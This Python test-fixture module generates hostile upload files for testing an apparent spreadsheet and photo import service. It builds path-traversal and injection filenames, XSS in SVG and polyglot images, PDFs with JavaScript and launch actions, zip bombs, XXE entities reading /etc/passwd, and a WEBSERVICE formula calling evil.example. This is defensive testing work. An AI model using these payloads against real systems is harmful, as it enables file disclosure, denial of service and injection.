"""Files that do harm where they are opened, believed or shown: made here, never downloaded."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache

import xlsxwriter

from services.people.roll.template import workbook
from tests.factories.papers import pdf, photo

_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_SCRIPT = b"<script>pwn()</script>"
_ROWS = [["一社", "001", "张三", "张三", "男", "1980-01-01", "", "户主", "", ""]]
# What every antivirus knows and nothing runs; written in two parts so that this file is not it.
_EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Hostile:
    """A file as it is sent: the name and the type are claims."""

    what: str
    name: str
    data: bytes
    kind: str = "application/octet-stream"


@lru_cache(maxsize=1)
def files() -> list[Hostile]:
    """Return the corpus."""
    makers: list[Callable[[], Iterator[Hostile]]] = [
        names, _pages, _polyglots, _wrong, _pictures, _papers, _archives, _sheets, _tables,
    ]  # fmt: skip
    return [one for make in makers for one in make()]


def names() -> Iterator[Hostile]:
    good, kind = photo("PNG"), "image/png"
    names = {
        "a double ending": "photo.png.exe",
        "a script's ending": "photo.html",
        "a path upwards": "../../../../etc/cron.d/x.png",
        "a Windows path": "C:\\Windows\\system32\\x.png",
        "a NUL in the name": "a.php\x00.png",
        "a turned name": "invoice\u202egnp.exe",
        "a long name": "长" * 4_000 + ".png",
        "line breaks in the name": "a.png\r\nX-Evil: 1",
        "quotes in the name": '"><img src=x onerror=pwn()>.png',
        "a semicolon in the name": "a.png; filename=b.html",
        "a device": "CON.png",
        "a dot": ".",
        "a hidden file": ".htaccess",
        "an invisible name": "\u200b\u200b.png",
        "half a character": "a\udcff.png".encode("utf-8", "surrogateescape").decode("latin-1"),
        "a formula": "=cmd|' /C calc'!A0.png",
        "percent signs": "%2e%2e%2f%00.png",
        "a template": "{{7*7}}${7*7}.png",
    }
    for what, name in names.items():
        yield Hostile(what, name, good, kind)


def _pages() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()">' + _SCRIPT + b"</svg>"
    yield Hostile("a page", "a.html", b"<!doctype html>" + _SCRIPT, "text/html")
    yield Hostile("a page called a picture", "a.png", b"<html>" + _SCRIPT, "image/png")
    yield Hostile("a drawing with a script", "a.svg", svg, "image/svg+xml")
    yield Hostile("a drawing called a picture", "a.jpg", svg, "image/jpeg")
    yield Hostile("packed drawing", "a.svgz", zlib.compress(svg), "image/svg+xml")
    xml = b'<?xml version="1.0"?><?xml-stylesheet href="javascript:pwn()"?><a/>'
    yield Hostile("a styled document", "a.xml", xml, "text/xml")
    yield Hostile("XHTML", "a.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml">' + _SCRIPT)
    yield Hostile("a script", "a.js", b"pwn()", "text/javascript")
    yield Hostile("MHTML", "a.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + _SCRIPT)
    yield Hostile("a Flash film", "a.swf", b"CWS\x0a" + b"\0" * 60)


def _polyglots() -> Iterator[Hostile]:
    jpeg, png = photo("JPEG", comment=_SCRIPT), photo("PNG")
    yield Hostile("a photo with a script in it", "a.jpg", jpeg, "image/jpeg")
    yield Hostile("a photo and a page", "a.jpg.html", photo("JPEG") + _SCRIPT, "text/html")
    archive = _zipped({"evil.txt": b"x"})
    yield Hostile("a photo and an archive", "a.jpg", photo("JPEG") + archive, "image/jpeg")
    yield Hostile("a picture and a program", "a.png", png + b"MZ" + b"\0" * 200, "image/png")
    text = _png([(b"tEXt", b"Comment\0" + _SCRIPT), (b"iTXt", b"x\0\0\0\0\0" + _SCRIPT)])
    yield Hostile("a picture with a script in its texts", "a.png", text, "image/png")
    inside = png[:33] + _chunk(b"pwNd", _SCRIPT) + png[33:]
    yield Hostile("a picture with an unknown part", "a.png", inside, "image/png")
    yield Hostile("a paper and a page", "a.pdf", pdf("x") + _SCRIPT, "text/html")
    page = _SCRIPT + pdf("x")
    yield Hostile("a page and a paper", "a.pdf", page, "application/pdf")
    yield Hostile("GIF and JavaScript", "a.gif", b"GIF89a/*" + b"\0" * 9 + b"*/=1;pwn()")
    yield Hostile("a bitmap and JavaScript", "a.bmp", b"BM/*" + b"\0" * 20 + b"*/=1;pwn()")


def _wrong() -> Iterator[Hostile]:
    yield Hostile("nothing", "a.png", b"", "image/png")
    yield Hostile("one byte", "a.png", b"\x89", "image/png")
    yield Hostile("zeroes", "a.jpg", b"\0" * 1_000_000, "image/jpeg")
    yield Hostile("a virus for tests", "a.pdf", _EICAR, "application/pdf")
    yield Hostile("a program", "a.pdf", b"\x7fELF" + b"\0" * 500, "application/pdf")
    yield Hostile("a Windows program", "a.jpg", b"MZ" + b"\0" * 500, "image/jpeg")
    yield Hostile("a shell script", "a.csv", b"#!/bin/sh\nid\n", "text/csv")
    yield Hostile("an old Office file", "a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    yield Hostile("a GIF called a photo", "a.jpg", b"GIF89a" + b"\0" * 30, "image/jpeg")
    yield Hostile("WebP", "a.webp", b"RIFF\x24\0\0\0WEBPVP8L" + b"\0" * 30, "image/webp")
    yield Hostile("HEIC", "a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 30, "image/heic")


def _pictures() -> Iterator[Hostile]:
    jpeg, png = photo("JPEG"), photo("PNG")
    yield Hostile("half a photo", "a.jpg", jpeg[: len(jpeg) // 2], "image/jpeg")
    yield Hostile("half a picture", "a.png", png[: len(png) // 2], "image/png")
    yield Hostile("a pixel bomb", "a.png", _png([], width=100_000, height=100_000), "image/png")
    frame = struct.pack(">HBHHB", 11, 8, 65_500, 65_500, 1) + b"\x01\x11\x00"
    bomb = jpeg[:2] + b"\xff\xc0" + frame + jpeg[2:]
    yield Hostile("a photo of four billion points", "a.jpg", bomb, "image/jpeg")
    many = png[:8] + _chunk(b"IDAT", b"") * 390_000 + png[8:]
    yield Hostile("a picture in a million parts", "a.png", many, "image/png")
    parts = b"\xff\xd8" + b"\xff\xe1\x00\x02" * 1_200_000 + jpeg[2:]
    yield Hostile("a photo in a million parts", "a.jpg", parts, "image/jpeg")
    scan = b"\xff\xd8\xff\xda\x00\x02" + b"\xff\x00" * 2_400_000
    yield Hostile("a scan without an end", "a.jpg", scan, "image/jpeg")
    yield Hostile("a part longer than the file", "a.png", png[:8] + b"\xff\xff\xff\xffIDAT")
    yield Hostile("a part of no length", "a.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x00" * 20)


def _papers() -> Iterator[Hostile]:
    kind = "application/pdf"

    def holding(what: bytes) -> bytes:
        return pdf("x").replace(b"/Catalog", b"/Catalog" + what)

    yield Hostile("a locked paper", "a.pdf", holding(b"/Encrypt 5 0 R"), kind)
    script = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    yield Hostile("a paper with a script", "a.pdf", holding(script), kind)
    yield Hostile("a paper that starts a program", "a.pdf", holding(b"/S/Launch/F(calc.exe)"), kind)
    yield Hostile("a paper with a file", "a.pdf", holding(b"/Type/EmbeddedFile"), kind)
    yield Hostile("half a paper", "a.pdf", pdf("x", 5_000)[:2_000], kind)
    yield Hostile("only a paper's head", "a.pdf", b"%PDF-1.7\n", kind)
    yield Hostile("a paper that is too large", "a.pdf", pdf("x", 5_000_001), kind)


def _archives() -> Iterator[Hostile]:
    climbing = _zipped({"../../../../tmp/evil": b"x"})
    yield Hostile("an archive that climbs", "a.xlsx", climbing, _SHEET)
    link = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
    link.external_attr = 0o120777 << 16
    yield Hostile("an archive with a link", "a.xlsx", _zipped({link: b"/etc/passwd"}), _SHEET)
    yield Hostile("an archive of nothing", "a.xlsx", _zipped({}), _SHEET)
    whole = workbook(_ROWS)
    yield Hostile("half an archive", "a.xlsx", whole[: len(whole) // 2], _SHEET)
    yield Hostile("an archive in an archive", "a.xlsx", _zipped({"a.xlsx": whole}), _SHEET)
    yield Hostile("a zip bomb", "a.xlsx", _bomb(210), _SHEET)
    liar = bytearray(_bomb(60))
    at = liar.rindex(b"PK\x01\x02") + 24
    liar[at : at + 4] = struct.pack("<I", 10)
    yield Hostile("a zip bomb that lies", "a.xlsx", bytes(liar), _SHEET)
    twice = _zipped({"xl/workbook.xml": b"<a/>"}) + whole
    yield Hostile("two archives in one", "a.xlsx", twice, _SHEET)
    many = _zipped({f"xl/worksheets/sheet{number}.xml": b"<a/>" for number in range(5_000)})
    yield Hostile("an archive of five thousand", "a.xlsx", many, _SHEET)


def _sheets() -> Iterator[Hostile]:
    laughs = b"".join(
        b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10 if number else b"lol")
        for number in range(10)
    )
    doctype = b'<?xml version="1.0"?><!DOCTYPE a [' + laughs + b"]><a>&l9;</a>"
    yield Hostile("a billion laughs", "a.xlsx", _with("xl/sharedStrings.xml", doctype), _SHEET)
    yield Hostile("laughs in the list", "a.xlsx", _with("xl/workbook.xml", doctype), _SHEET)
    outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield Hostile("an entity of outside", "a.xlsx", _with("xl/workbook.xml", outside), _SHEET)
    deep = b"<a>" * 200_000 + b"</a>" * 200_000
    yield Hostile("a deep document", "a.xlsx", _with("xl/sharedStrings.xml", deep), _SHEET)
    macro = _with("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 900)
    yield Hostile("a workbook with macros", "a.xlsm", macro, _SHEET)
    strings = b"<sst>" + b"<si><t>a</t></si>" * 3_000_000 + b"</sst>"
    yield Hostile("three million words", "a.xlsx", _with("xl/sharedStrings.xml", strings), _SHEET)
    yield Hostile("formulas", "a.xlsx", _formulas(), _SHEET)
    far = workbook(_ROWS).replace(b"A1", b"XF")
    yield Hostile("a broken sheet", "a.xlsx", far, _SHEET)


def _tables() -> Iterator[Hostile]:
    head = "社,户号,户主,姓名"
    line = f"{head}\n=HYPERLINK(1),+1,-1,@SUM(A1)\n".encode()
    yield Hostile("formulas in a table", "a.csv", line, "text/csv")
    yield Hostile("one endless cell", "a.csv", b'"' + b"a" * 2_000_000, "text/csv")
    yield Hostile("a NUL in a table", "a.csv", b"a,\0b\n", "text/csv")
    yield Hostile("UTF-16", "a.csv", head.encode("utf-16"), "text/csv")
    yield Hostile("a million commas", "a.csv", b"," * 2_000_000, "text/csv")
    yield Hostile("a million lines", "a.csv", b"a\n" * 1_000_000, "text/csv")
    yield Hostile("a table cut in a character", "a.csv", head.encode()[:-1], "text/csv")


def _zipped(entries: dict[str, bytes] | dict[zipfile.ZipInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _bomb(megabytes: int) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w") as sheet,
    ):
        for _ in range(megabytes):
            sheet.write(b" " * 1_000_000)
    return out.getvalue()


def _with(name: str, data: bytes) -> bytes:
    """Return a whole workbook in which one part is another."""
    with zipfile.ZipFile(io.BytesIO(workbook(_ROWS))) as whole:
        entries = {one: whole.read(one) for one in whole.namelist()}
    return _zipped({**entries, name: data})


def _formulas() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet().write_formula(0, 0, '=WEBSERVICE("http://evil.example")')
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(more: list[tuple[bytes, bytes]], width: int = 1, height: int = 1) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = [(b"IHDR", head), *more, (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*one) for one in parts)
